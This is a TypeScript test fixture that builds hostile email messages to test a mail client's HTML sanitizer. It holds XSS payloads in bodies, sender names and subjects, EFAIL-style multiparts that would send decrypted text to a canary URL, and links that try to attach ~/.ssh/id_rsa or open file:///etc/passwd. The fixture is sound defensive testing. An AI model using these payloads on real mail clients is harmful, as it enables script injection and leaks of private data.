import { hostileHtml } from '../../../renderer/mail/message-view/hostile-html.fixtures';
import { encodeQuotedPrintable, formatMailDate } from '../../stack/mail-mime';

// The hostile-mail corpus as real RFC 5322 messages (security checklist, section C): every
// sanitizer-level hostile body of the renderer's fixtures, each in a real MIME structure, plus
// what only exists at the message level: cid: parts, EFAIL-style multiparts, markup in sender
// names and subjects (raw and as encoded-words), and plain-text bodies whose links carry quotes
// or attach fields. Every remote address points at `canaryOrigin`; every script would set
// `__pwned` (page, parent or top) or retitle the parent, so a test can see whether one ran.

export interface HostileMessage {
  /** One search word, unique to this message, inside its subject. */
  marker: string;
  name: string;
  /** The whole message, CRLF line ends. */
  raw: string;
  /** The subject as it must show, literally, in the list row and the reading pane. */
  subject: string;
  /** The sender's display name as it must show, literally. */
  fromName: string;
  /** Text of the body that must still show. */
  harmlessText: string;
  /** Where that text shows: the sandboxed HTML frame or the plain-text body. */
  body: 'frame' | 'text';
}

export interface HostileCorpusOptions {
  /** e.g. http://127.0.0.1:PORT: every remote address of the corpus. */
  canaryOrigin: string;
  to: string;
  /** Dates count up by a minute per message from here, so the corpus is the newest mail. */
  firstDate: Date;
}

const CRLF = '\r\n';
const senderAddress = 'mallory@attacker.test';
/** Sets every canary a test looks for; any one of them set means a script ran. */
const pwn = "window.__pwned=1;top.__pwned=1;parent.__pwned=1;parent.document.title='pwned'";

interface Part {
  headers: string[];
  body: string;
}

type Encoding = 'quoted-printable' | 'base64' | '7bit';

function encodeBody(text: string | Buffer, encoding: Encoding): string {
  const bytes = typeof text === 'string' ? Buffer.from(text.replaceAll(/\r?\n/g, CRLF), 'utf8') : text;
  if (encoding === '7bit') return bytes.toString('latin1');
  if (encoding === 'quoted-printable') return encodeQuotedPrintable(bytes).toString('latin1');
  return (bytes.toString('base64').match(/.{1,76}/g) ?? []).join(CRLF);
}

function leaf(contentType: string, content: string | Buffer, encoding: Encoding, extra: string[] = []): Part {
  return {
    headers: [`Content-Type: ${contentType}`, `Content-Transfer-Encoding: ${encoding}`, ...extra],
    body: encodeBody(content, encoding),
  };
}

const html = (content: string, encoding: Encoding = 'quoted-printable') =>
  leaf('text/html; charset=utf-8', content, encoding);
const plain = (content: string, encoding: Encoding = 'quoted-printable') =>
  leaf('text/plain; charset=utf-8', content, encoding);

function multipart(subtype: 'alternative' | 'related' | 'mixed', boundary: string, parts: Part[]): Part {
  const type = subtype === 'related' ? `multipart/related; type="text/html"` : `multipart/${subtype}`;
  const body = parts.map((part) => `--${boundary}${CRLF}${part.headers.join(CRLF)}${CRLF}${CRLF}${part.body}${CRLF}`);
  return { headers: [`Content-Type: ${type}; boundary="${boundary}"`], body: `${body.join('')}--${boundary}--${CRLF}` };
}

/** RFC 2047 encoded-words (UTF-8, base64, each within 75 characters), folded onto lines of their own. */
export function encodedWords(text: string): string {
  const chunks = text.match(/[\s\S]{1,36}/gu) ?? [];
  return chunks.map((chunk) => `=?UTF-8?B?${Buffer.from(chunk, 'utf8').toString('base64')}?=`).join(`${CRLF} `);
}

interface Draft {
  name: string;
  /** Subject text after the marker; `subjectHeader` overrides how it is written. */
  subject: string;
  subjectHeader?: (subject: string) => string;
  fromName?: string;
  fromHeader?: string;
  root: Part;
  harmlessText: string;
  body: 'frame' | 'text';
}

function render(draft: Draft, index: number, options: HostileCorpusOptions): HostileMessage {
  const marker = `hm${String(index + 1).padStart(2, '0')}`;
  const subject = `${marker} ${draft.subject}`;
  const fromName = draft.fromName ?? 'Mallory Sender';
  const date = new Date(options.firstDate.getTime() + index * 60_000);
  const headers = [
    `From: ${draft.fromHeader ?? `"${fromName}" <${senderAddress}>`}`,
    `To: <${options.to}>`,
    `Subject: ${draft.subjectHeader ? draft.subjectHeader(subject) : subject}`,
    `Date: ${formatMailDate(date, 0)}`,
    `Message-ID: <${marker}.hostile@attacker.test>`,
    'MIME-Version: 1.0',
    ...draft.root.headers,
  ];
  return {
    marker,
    name: draft.name,
    raw: `${headers.join(CRLF)}${CRLF}${CRLF}${draft.root.body}`,
    subject,
    fromName,
    harmlessText: draft.harmlessText,
    body: draft.body,
  };
}

/** Points the fixtures' attacker.example addresses at the canary; plain http, it is loopback. */
function toCanary(text: string, canaryOrigin: string): string {
  const host = new URL(canaryOrigin).host;
  return text.replaceAll('https://attacker.example', canaryOrigin).replaceAll('attacker.example', host);
}

const onePixelPng = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

function fixtureDrafts(canaryOrigin: string): Draft[] {
  return hostileHtml.map(([name, body, harmlessText], index): Draft => {
    const content = toCanary(body, canaryOrigin);
    // The same bodies in the three shapes an HTML mail comes in.
    const shape = index % 3;
    const root =
      shape === 0
        ? html(content)
        : shape === 1
          ? multipart('alternative', `alt-${index}`, [plain(harmlessText), html(content, 'base64')])
          : html(content, 'base64');
    return { name, subject: name, root, harmlessText, body: 'frame' };
  });
}

function messageLevelDrafts(canaryOrigin: string): Draft[] {
  const host = new URL(canaryOrigin).host;
  return [
    {
      name: 'script setting the canaries',
      subject: 'script setting the canaries',
      root: html(`<p>Hello canary script</p><script>${pwn};fetch('${canaryOrigin}/script-canary')</script>`),
      harmlessText: 'Hello canary script',
      body: 'frame',
    },
    {
      name: 'event handlers setting the canaries',
      subject: 'event handlers setting the canaries',
      root: html(
        `<body onload="${pwn}"><img src="x" onerror="${pwn}"><svg onload="${pwn}"></svg>` +
          `<details open ontoggle="${pwn}"><summary>Hello handlers</summary></details>` +
          `<input autofocus onfocus="${pwn}"></body>`,
      ),
      harmlessText: 'Hello handlers',
      body: 'frame',
    },
    {
      name: 'meta refresh to javascript: and to the canary',
      subject: 'meta refresh to javascript and to the canary',
      root: html(
        `<html><head><meta http-equiv="refresh" content="0;url=javascript:${pwn}">` +
          `<meta http-equiv="refresh" content="1;url=${canaryOrigin}/refresh"></head><body><p>Hello meta</p></body></html>`,
      ),
      harmlessText: 'Hello meta',
      body: 'frame',
    },
    {
      name: 'multipart/related with a cid image and cids that are not in the message',
      subject: 'related parts with missing cids',
      root: multipart('related', 'related-1', [
        html(
          `<p>Hello related</p><img alt="logo" src="cid:logo@harbor.test">` +
            `<img alt="absent" src="cid:absent@harbor.test"><img alt="escape" src="cid:../../../../etc/passwd">` +
            `<img alt="remote" src="cid:${canaryOrigin}/cid.png">`,
        ),
        leaf('image/png; name="logo.png"', onePixelPng, 'base64', [
          'Content-ID: <logo@harbor.test>',
          'Content-Disposition: inline; filename="logo.png"',
        ]),
      ]),
      harmlessText: 'Hello related',
      body: 'frame',
    },
    {
      // EFAIL (Poddebniak et al. 2018): an HTML part left open inside an attribute, a middle
      // part (the decrypted secret), and a closing part; joined, the secret would be the URL.
      name: 'EFAIL multipart/mixed whose HTML parts join into one attribute',
      subject: 'EFAIL direct exfiltration',
      root: multipart('mixed', 'efail-1', [
        html(`<p>Dear Bob, efail</p><img src="${canaryOrigin}/efail?`, '7bit'),
        plain('The secret plaintext', '7bit'),
        html('">', '7bit'),
      ]),
      harmlessText: 'Dear Bob, efail',
      body: 'frame',
    },
    {
      name: 'EFAIL with the open attribute in a link and a style',
      subject: 'EFAIL link and style',
      root: multipart('mixed', 'efail-2', [
        html(`<p>Hello efail link</p><a href="${canaryOrigin}/efail-link?`, '7bit'),
        plain('More secret plaintext', '7bit'),
        html(`">x</a><div style="background:url('${canaryOrigin}/efail-css?`, '7bit'),
        plain('Even more secret', '7bit'),
        html(`')">y</div>`, '7bit'),
      ]),
      harmlessText: 'Hello efail link',
      body: 'frame',
    },
    {
      name: 'HTML in the sender name and the subject',
      subject: `<img src=${canaryOrigin}/subject.png onerror="${pwn}"><b>bold</b>`,
      fromName: `<img src=${canaryOrigin}/name.png onerror=top.__pwned=1>Mallory`,
      root: plain('Hello markup headers'),
      harmlessText: 'Hello markup headers',
      body: 'text',
    },
    {
      name: 'HTML in an encoded-word sender name and subject',
      subject: `<script>${pwn}</script><i>encoded</i>`,
      subjectHeader: (subject) => encodedWords(subject),
      fromName: `<svg onload=top.__pwned=1>Encoded Mallory`,
      fromHeader: `${encodedWords('<svg onload=top.__pwned=1>Encoded Mallory')} <${senderAddress}>`,
      root: html(`<p>Hello encoded headers</p>`),
      harmlessText: 'Hello encoded headers',
      body: 'frame',
    },
    {
      name: 'plain text with URLs containing quotes',
      subject: 'plain text URL with a quote',
      root: plain(
        `Hello quoted url\n` +
          `${canaryOrigin}/a"onmouseover="${pwn}"x\n` +
          `${canaryOrigin}/b"><img src=${canaryOrigin}/quote.png onerror=top.__pwned=1>\n` +
          `http://${host}/c'><script>top.__pwned=1</script>\n`,
      ),
      harmlessText: 'Hello quoted url',
      body: 'text',
    },
    {
      name: 'plain text with mailto attach and dangerous schemes',
      subject: 'plain text mailto attach',
      root: plain(
        'Hello plain links\n' +
          'mailto:bob@example.com?attach=~/.ssh/id_rsa\n' +
          `javascript:${pwn}\n` +
          `smb://${host}/share/run.exe\n` +
          'file:///etc/passwd\n',
      ),
      harmlessText: 'Hello plain links',
      body: 'text',
    },
  ];
}

/** The whole corpus, in delivery order (oldest first). */
export function hostileMessages(options: HostileCorpusOptions): HostileMessage[] {
  const drafts = [...fixtureDrafts(options.canaryOrigin), ...messageLevelDrafts(options.canaryOrigin)];
  return drafts.map((draft, index) => render(draft, index, options));
}
